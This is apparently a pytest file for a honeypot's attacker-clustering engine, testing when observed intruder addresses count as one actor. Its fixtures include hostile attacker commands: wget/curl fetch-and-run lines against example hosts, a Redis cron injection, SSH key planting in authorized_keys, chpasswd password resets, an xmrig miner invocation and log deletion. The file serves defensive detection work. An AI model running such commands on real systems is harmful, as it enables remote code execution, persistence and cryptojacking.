# SPDX-License-Identifier: MIT
"""Which attackers are one identity, and which are not."""

from __future__ import annotations

import base64
from random import Random

import pytest
from sqlalchemy import Engine
from tests.decnet_workers.clusterer.scenes import (
    Follower,
    command,
    event,
    file,
    groups,
    hassh,
    key,
    password,
    several,
    stack,
    typing,
)

from decnet_core.events.catalogue import CertificateProbed, HttpRequest, ServiceRequest
from decnet_core.events.envelope import Event
from decnet_core.events.typing_digest import TypingDigest

DAY = 86_400
A, B, C, D = (f"192.0.2.{number}" for number in range(1, 5))


def test_those_who_offer_one_key_are_one_and_keep_the_id_of_the_first(engine: Engine) -> None:
    Follower(engine).run([event(A, key("a")), event(B, key("a"), 1), event(C, key("c"), 2)])
    assert several(engine) == groups([A, B])


def test_a_tool_joins_nobody(engine: Engine) -> None:
    Follower(engine).run([event(each, hassh("a")) for each in (A, B, C)])
    assert several(engine) == set()


def test_commands_name_urls(engine: Engine) -> None:
    line = "cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh"
    Follower(engine).run([event(A, command(line)), event(B, command(line), 1), event(C, command("uname -a"), 2)])
    assert several(engine) == groups([A, B])


def test_what_is_sent_to_a_form_names_urls_also_percent_encoded(engine: Engine) -> None:
    bodies = ("cmd=wget%20http%3A%2F%2F203.0.113.9%2Fown%2Frun%3B+sh+run", "cmd=curl http://203.0.113.9/own/run | sh")
    requests = [HttpRequest(method="POST", target="/cgi-bin/x", body=body) for body in bodies]
    Follower(engine).run([event(A, requests[0]), event(B, requests[1]), event(C, command("wget -h"))])
    assert several(engine) == groups([A, B])


def test_a_rhythm_that_is_played_back_joins_but_one_that_many_have_does_not(engine: Engine) -> None:
    played = TypingDigest(60, 0, 6, 2, (0, 0, 3, 20, 25, 6, 1), (0, 0, 0, 0, 0, 0, 1, 2, 2))
    sent_at_once = TypingDigest(0, 40, 40, 0, (38,), (39,))
    logged = [event(A, typing(played)), event(B, typing(played), 90)]
    Follower(engine).run([*logged, event(C, typing(sent_at_once)), event(D, typing(sent_at_once), 5)])
    assert several(engine) == groups([A, B])


def test_passwords_of_ones_own_list_add_up_though_no_two_addresses_try_the_same_ones(engine: Engine) -> None:
    own = [password("root", f"own-{number}-of-mine") for number in range(12)]
    crowd = [event(f"10.0.{number // 200}.{number % 200}", hassh(f"{number:032x}")) for number in range(300)]
    known = [event(each, key("one")) for each in (A, B, C)]
    tried = [event(each, own[(4 * place + number) % 12]) for place, each in enumerate((A, B, C)) for number in range(6)]
    follower = Follower(engine).run([*crowd, *known, *tried])
    follower.run([event(D, own[number], 60) for number in range(0, 12, 2)])
    assert several(engine) == groups([A, B, C, D])


def test_those_who_walk_a_list_that_many_have_are_not_one_though_few_come_equally_far(engine: Engine) -> None:
    walkers = [f"198.51.{number}.7" for number in range(36)]
    listed = [password(f"user{number}", f"listed-{number}") for number in range(20)]
    crowd = [event(f"10.{number >> 8}.{number & 255}.1", hassh(f"{number:032x}")) for number in range(900)]
    walks = [event(each, one, place) for place, each in enumerate(walkers) for one in listed[: 6 + place % 14]]
    Follower(engine).run([*crowd, *walks])
    assert several(engine) == set()


def test_buyers_of_one_loader_are_not_one(engine: Engine) -> None:
    buyers = {name: [f"198.51.{number}.{last}" for last in range(1, 5)] for number, name in enumerate("abcd")}
    fetch = command("curl -s http://203.0.113.9/get")
    Follower(engine).run(
        [
            event(each, shown, number)
            for number, (name, addresses) in enumerate(buyers.items())
            for each in addresses
            for shown in (fetch, command(f"curl -s http://{name}.example.net/{name}"))
        ]
    )
    assert several(engine) == groups(*buyers.values())


def test_who_shows_the_marks_of_many_belongs_to_none_of_them(engine: Engine) -> None:
    owners = {name: [f"198.51.{number}.{last}" for last in range(1, 4)] for number, name in enumerate("abcd")}
    shown = [event(each, key(name)) for name, addresses in owners.items() for each in addresses]
    Follower(engine).run([*shown, *(event(A, key(name), 9) for name in owners)])
    assert several(engine) == groups(*owners.values())


def test_a_mark_may_come_to_follow_a_core_whose_attackers_did_not_change(engine: Engine) -> None:
    both = command("pgrep -f own-miner-of-two")
    follower = Follower(engine).run(
        [event(each, key(name)) for name, pair in (("k", (A, B)), ("l", (C, D))) for each in pair]
    )
    follower.run([event(each, both, 1) for each in (A, B, C, D)])
    follower.run(
        [event(D, key(name), 2) for name in ("x", "y")]
    )  # D is nobody's now: two of three are of the first core
    assert groups([A, B]) <= several(engine)


def test_what_a_kit_brings_joins_its_users_neither_by_its_passwords_nor_by_its_commands(engine: Engine) -> None:
    users = [f"198.51.{number}.7" for number in range(40)]
    brought = [
        *(password("root", f"kit-{number}") for number in range(4)),
        *map(command, ("mkdir .kit", "cd .kit", "kit -x")),
    ]
    Follower(engine).run(
        [event(each, shown, place) for place, each in enumerate(users) for shown in (*brought, hassh("kit"))]
    )
    assert several(engine) == set()


def test_bots_of_one_family_are_not_one_though_they_fetch_the_same_file_from_the_same_place(engine: Engine) -> None:
    bots = [f"198.51.{number}.7" for number in range(60)]
    lines = [command(text) for text in ("enable", "busybox BOTS", "wget http://203.0.113.9/b; sh b")]
    Follower(engine).run(
        [
            event(each, shown, 86_400 * place)
            for place, each in enumerate(bots)
            for shown in (*lines, file(f"{place % 3:064x}"))
        ]
    )
    assert several(engine) == set()


def test_a_small_botnet_is_not_one_either_but_who_uses_a_file_of_their_own_is(engine: Engine) -> None:
    bots = [f"198.51.{number}.7" for number in range(6)]
    lines = [command(text) for text in ("enable", "/bin/busybox KIVI", "cd /tmp; wget http://203.0.113.9/b; ./.kivi")]
    shown = [(each, one) for each in bots for one in (*lines, file("b" * 64), hassh("of the device"))]
    shown += [(each, file("a" * 64)) for each in (A, B)]
    Follower(engine).run([event(each, one, 86_400 * place) for place, (each, one) in enumerate(shown)])
    assert several(engine) == groups([A, B])


def test_a_script_joins_once_those_who_run_it_are_known_to_be_one(engine: Engine) -> None:
    known = [f"198.51.100.{number}" for number in range(1, 13)]
    script = [command(text) for text in ("mkdir .own", "cp own /dev/shm", "pkill rivals-of-mine", "touch mine-alone")]
    logged = [event(each, key("one"), place) for place, each in enumerate(known)]
    logged += [
        event(each, shown, 86_400 * place)
        for place, each in enumerate([*known, A, B, C, D])
        for shown in script[place % 2 :]
    ]
    crowd = [event(f"10.{number >> 8}.{number & 255}.1", hassh(f"{number:032x}")) for number in range(600)]
    Follower(engine).run([*crowd, *logged])
    assert several(engine) == groups([*known, A, B, C, D])


@pytest.mark.parametrize("log_first", [True, False])
@pytest.mark.parametrize(("days_between", "one"), [(0.2, True), (6, False)])
def test_a_script_at_many_addresses_is_one_actors_if_they_came_in_a_small_part_of_the_time(
    engine: Engine, days_between: float, one: bool, log_first: bool
) -> None:
    users = [f"198.51.{number}.7" for number in range(20)]
    names = ("mkdir .own", "cp own /dev/shm", "pkill rivals-of-mine", "touch mine-alone", "own -x", "rm -rf own-log")
    script = [
        event(each, command(text), int(86_400 * (5 + days_between * place)))
        for place, each in enumerate(users)
        for text in (*names, *(f"ls /mnt/{chr(97 + place)} {name}" for name in "abcde"))
    ]
    crowd = [
        event(f"10.{number >> 8}.{number & 255}.1", hassh(f"{number:032x}"), number * 14_000) for number in range(900)
    ]
    follower = Follower(engine)
    for part in (crowd, script) if log_first else (script, crowd):
        follower.run(part)
    assert several(engine) == (groups(users) if one else set())


def test_the_same_few_lines_within_days_are_one_actors_and_at_any_time_nobodys(engine: Engine) -> None:
    crowd = [
        event(f"10.{number >> 8}.{number & 255}.1", hassh(f"{number:032x}"), DAY * (number % 90))
        for number in range(900)
    ]
    lines = [command(f"{name} --of {name}-own -x") for name in ("fetch", "place", "start", "hide", "tell")]
    busy, any_time = ([f"198.51.{net}.{number}" for number in range(20)] for net in (1, 2))
    others = [command(f"{name} --of {name}-kit -x") for name in ("get", "put", "run", "mask", "call")]
    came = [event(each, line, 40 * DAY + number * 9_000) for number, each in enumerate(busy) for line in lines]
    came += [event(each, line, number * 4 * DAY) for number, each in enumerate(any_time) for line in others]
    Follower(engine).run([*crowd, *came])
    assert several(engine) == groups(busy)


def test_surveyors_who_name_themselves_are_one_each_and_those_who_pretend_to_be_a_crawler_are_not(
    engine: Engine,
) -> None:
    agents = {
        "a": "Mozilla/5.0 (compatible; SurveyA/1.1; +https://www.survey-a.org/about)",
        "b": "survey b, abuse@survey-b.net",
        "crawler": "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "tool": "Mozilla/5.0 (compatible; Prober; https://prober.example.net/manual)",
    }
    addresses = {name: [f"198.51.{net}.{number}" for number in range(25)] for net, name in enumerate(agents)}
    crowd = [event(f"10.{number >> 8}.{number & 255}.1", hassh(f"{number:032x}")) for number in range(300)]
    Follower(engine).run(
        [
            *crowd,
            *(
                event(each, HttpRequest(method="GET", target="/", user_agent=agents[name]), number * 4 * DAY)
                for name, found in addresses.items()
                for number, each in enumerate(found)
            ),
        ]
    )
    assert several(engine) == groups(addresses["a"], addresses["b"])


def test_who_names_the_contacts_of_several_surveyors_does_not_make_them_one(engine: Engine) -> None:
    agents = [f"Mozilla/5.0 (compatible; Survey/1.0; +https://survey-{name}.org/)" for name in "ab"]
    surveyors = [[f"198.51.{net}.{number}" for number in range(6)] for net in range(2)]
    imitators = [f"203.0.113.{number}" for number in range(6)]
    shown = [(each, agent) for agent, found in zip(agents, surveyors, strict=True) for each in (*found, *imitators)]
    crowd = [event(f"10.0.{number // 200}.{number % 200}", hassh(f"{number:032x}")) for number in range(300)]
    requests = [event(each, HttpRequest(method="GET", target="/", user_agent=agent)) for each, agent in shown]
    Follower(engine).run([*crowd, *requests])
    one, other = ({group for group in several(engine) if group & set(found)} for found in surveyors)
    assert one
    assert other
    assert one.isdisjoint(other)


def test_rare_tools_of_several_kinds_join_together_and_those_of_one_kind_do_not(engine: Engine) -> None:
    crowd = [event(f"10.0.{number // 200}.{number % 200}", hassh(f"{number:032x}")) for number in range(300)]
    web = HttpRequest(method="GET", target="/", user_agent="own/1")
    several_kinds = [event(each, shown) for each in (A, B) for shown in (hassh("own"), web, stack("own"))]
    Follower(engine).run([*crowd, *several_kinds, *(event(each, hassh("rare")) for each in (C, D))])
    assert several(engine) == groups([A, B])


def test_those_who_plant_one_key_are_one_whatever_they_do_it_with(engine: Engine) -> None:
    body = base64.b64encode(b"\0\0\0\x0bssh-ed25519" + bytes(range(48))).decode()
    planted = f"ssh-ed25519 {body.replace(body[:4], 'AAAA', 1)} me@here"
    shell = command(f"mkdir -p ~/.ssh; echo '{planted}' >> ~/.ssh/authorized_keys")
    stored = ServiceRequest(service="redis", action="SET", detail={"ARGS": f"x \n{planted}\n"})
    Follower(engine).run([event(A, shell), event(B, stored, 1), event(C, command("echo ssh-ed25519 AAAAshort"), 2)])
    assert several(engine) == groups([A, B])


def test_sets_of_usual_commands_join_nobody_though_each_has_lines_of_its_own_too(engine: Engine) -> None:
    usual = [command(text) for text in ("ls /srv", "cat /etc/group", "lsblk", "vmstat", "lsmod", "arp -a", "mount")]
    crowd = [event(f"10.0.1.{number}", usual[number % 7]) for number in range(250)]
    several_lines = [
        event(each, shown)
        for place, each in enumerate((A, B))
        for shown in (*usual, command(f"./one-of-{'ab'[place]}"), command(f"./two-of-{'ab'[place]}"))
    ]
    Follower(engine).run([*crowd, *several_lines])
    assert several(engine) == set()


def test_a_certificate_that_comes_with_a_tool_joins_none_of_those_who_use_it(engine: Engine) -> None:
    users = {name: [f"198.51.{number}.{last}" for last in range(1, 4)] for number, name in enumerate("abcde")}
    default = CertificateProbed(contact=event(A, hassh("")).ts, sha256="d" * 64, subject="CN=default")
    Follower(engine).run(
        [
            event(each, shown, number)
            for number, (name, addresses) in enumerate(users.items())
            for each in addresses
            for shown in (default, key(name))
        ]
    )
    assert several(engine) == groups(*users.values())


def test_an_address_is_shared_also_by_marks_that_nobody_else_shows(engine: Engine) -> None:
    gateway = "198.51.100.9"
    own = [make(f"{make.__name__} {number}") for make in (hassh, stack) for number in range(2)]
    crews = [event(each, key("a")) for each in (A, B)] + [event(each, key("b"), 1) for each in (C, D)]
    follower = Follower(engine).run([*crews, *(event(gateway, shown, 2) for shown in (key("a"), key("b"), *own))])
    assert not any(group > {A, C} for group in several(engine))
    follower.run([event(each, hassh(each), 3) for each in (A, C)])  # the gateway is read as their neighbour
    assert not any(group > {A, C} for group in several(engine))


def test_those_who_mine_for_one_wallet_are_one_whatever_starts_the_miner(engine: Engine) -> None:
    mine, other = f"4{'8hZ' * 31}a", f"4{'7Qx' * 31}b"
    lines = {A: f"./xmrig -o pool.example:443 -u {mine}.rig7", B: f"bash setup.sh {mine}", C: f"bash setup.sh {other}"}
    Follower(engine).run([event(each, command(line), place) for place, (each, line) in enumerate(lines.items())])
    assert several(engine) == groups([A, B])


def test_those_who_give_accounts_one_password_of_their_own_are_one(engine: Engine) -> None:
    lines = {
        A: "echo 'root:vK3bTq9x' | chpasswd",
        B: 'echo -e "admin\\nvK3bTq9x\\nvK3bTq9x" | passwd',
        C: "echo root:123456|chpasswd",
        D: "echo admin:123456|chpasswd",
    }
    Follower(engine).run([event(each, command(line), place) for place, (each, line) in enumerate(lines.items())])
    assert several(engine) == groups([A, B])


def crowd_of(number: int) -> list[Event]:
    """Return strangers with a tool each, so that what few show is rare, over 90 days."""
    return [event(f"10.{one >> 8}.{one & 255}.1", hassh(f"{one:032x}"), DAY * (one % 90)) for one in range(number)]


def test_users_of_a_kit_are_not_one_when_their_keys_contradict_each_other(engine: Engine) -> None:
    users = {name: [f"198.51.{number}.{last}" for last in range(1, 3)] for number, name in enumerate("abcd")}
    kit = [
        *map(command, ("curl http://kit.example.net/k.sh | sh", "mkdir .kit-of-them", "echo root:vK3bTq9x | chpasswd")),
        *(password("root", f"of-the-kit-{number}") for number in range(4)),
        hassh("of the kit"),
    ]
    shown = [
        (each, one) for name, addresses in users.items() for each in addresses for one in (*kit, key(f"{name}-alone"))
    ]
    others = [(f"203.0.113.{number}", one) for number in range(3) for one in kit]  # of whom no key is seen
    Follower(engine).run([*crowd_of(300), *(event(each, one) for each, one in (*shown, *others))])
    assert several(engine) == groups(*users.values())


def test_people_with_one_list_are_not_one_when_each_has_a_key(engine: Engine) -> None:
    listed = [password("root", f"of-the-crew-{number}") for number in range(12)]
    people = {name: [f"198.51.{number}.{last}" for last in range(1, 4)] for number, name in enumerate("ab")}
    shown = [(each, one) for name, found in people.items() for each in found for one in (*listed, key(name))]
    Follower(engine).run([*crowd_of(300), *(event(each, one) for each, one in shown)])
    assert several(engine) == groups(*people.values())


@pytest.mark.parametrize(("days", "one"), [(3, True), (60, False)])
def test_few_who_try_the_same_rare_passwords_are_one_if_they_come_within_half_of_the_time(
    engine: Engine, days: int, one: bool
) -> None:
    tries = [password(f"user{number}", f"rare-{number}") for number in range(3)]
    shown = [event(each, tried, DAY * (10 + days * place)) for place, each in enumerate((A, B)) for tried in tries]
    Follower(engine).run([*crowd_of(600), *shown])
    assert several(engine) == (groups([A, B]) if one else set())


@pytest.mark.parametrize(("between", "one"), [(0.5, True), (3, False)])
def test_addresses_that_each_try_a_part_of_one_list_are_one_actors_if_they_come_within_days(
    engine: Engine, between: float, one: bool
) -> None:
    dice = Random(7)
    listed = [password(f"user{number}", f"one-of-many-{number}") for number in range(40)]
    walkers = [f"198.51.{number}.7" for number in range(24)]
    tries = [(place, each, tried) for place, each in enumerate(walkers) for tried in dice.sample(listed, 14)]
    came = [event(each, tried, int(DAY * (10 + between * place))) for place, each, tried in tries]
    Follower(engine).run([*crowd_of(900), *came])
    found = several(engine)
    assert max((len(group) for group in found), default=1) >= 20 if one else not found


def test_parts_of_a_list_do_not_join_a_crew_of_which_each_has_a_key(engine: Engine) -> None:
    dice = Random(8)
    listed = [password(f"user{number}", f"one-of-many-{number}") for number in range(30)]
    people = {name: [f"198.51.{number}.{last}" for last in range(8)] for number, name in enumerate("abc")}
    shown = [
        event(each, one, DAY * 10 + 3_600 * place)
        for name, found in people.items()
        for place, each in enumerate(found)
        for one in (key(name), *dice.sample(listed, 12))
    ]
    Follower(engine).run([*crowd_of(900), *shown])
    assert several(engine) == groups(*people.values())


@pytest.mark.parametrize(("hosts", "one"), [(3, True), (12, False)])
def test_hosts_that_a_worm_of_redis_has_infected_are_each_one_and_a_few_addresses_are_a_person(
    engine: Engine, hosts: int, one: bool
) -> None:
    body = base64.b64encode(b"\0\0\0\x0bssh-ed25519" + bytes(range(48))).decode()
    line = f"\n\nssh-ed25519 {body} a@b\n\n"
    found = [f"198.51.{number}.7" for number in range(hosts)]
    stored = ServiceRequest(service="redis", action="SET", detail={"ARGS": f"x {line}"})
    fetched = ServiceRequest(service="redis", action="SET", detail={"ARGS": "y * * * * curl http://w.example.net/r|sh"})
    sent = [event(each, request, DAY * place) for place, each in enumerate(found) for request in (stored, fetched)]
    Follower(engine).run([*crowd_of(300), *sent])
    assert several(engine) == (groups(found) if one else set())


@pytest.mark.parametrize(
    "line",
    [
        "echo root:$P | chpasswd",
        "echo 'root:Dragon2024!' | chpasswd",
        "echo root:abc | chpasswd",
        "xmrig -o pool.example:443 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4f"
        "hdUyZijBGUicoD",
    ],
)
def test_what_anybody_may_set_or_everybody_runs_joins_nobody(engine: Engine, line: str) -> None:
    Follower(engine).run([event(each, command(line), place) for place, each in enumerate((A, B))])
    assert several(engine) == set()


@pytest.mark.parametrize(
    ("image", "one"),
    [
        ("docker.io/library/ubuntu", False),
        ("bitnami/redis", False),
        ("docker.io/bitnami/redis", False),
        ("intruder7/run", True),
    ],
)
def test_the_account_of_an_image_joins_only_with_something_else_and_unless_it_is_everybodys(
    engine: Engine, image: str, one: bool
) -> None:
    create = HttpRequest(method="POST", target="/containers/create", body=f'{{"Image": "{image}", "Cmd": ["sh"]}}')
    crowd = [event(f"10.0.{number // 200}.{number % 200}", hassh(f"{number:032x}")) for number in range(300)]
    both = [event(each, shown, place) for place, each in enumerate((A, B)) for shown in (create, hassh("own"))]
    Follower(engine).run([*crowd, *both])
    assert several(engine) == (groups([A, B]) if one else set())


def test_the_word_of_a_family_of_malware_joins_nobody(engine: Engine) -> None:
    Follower(engine).run([event(each, command("/bin/busybox KIVI"), place) for place, each in enumerate((A, B))])
    assert several(engine) == set()
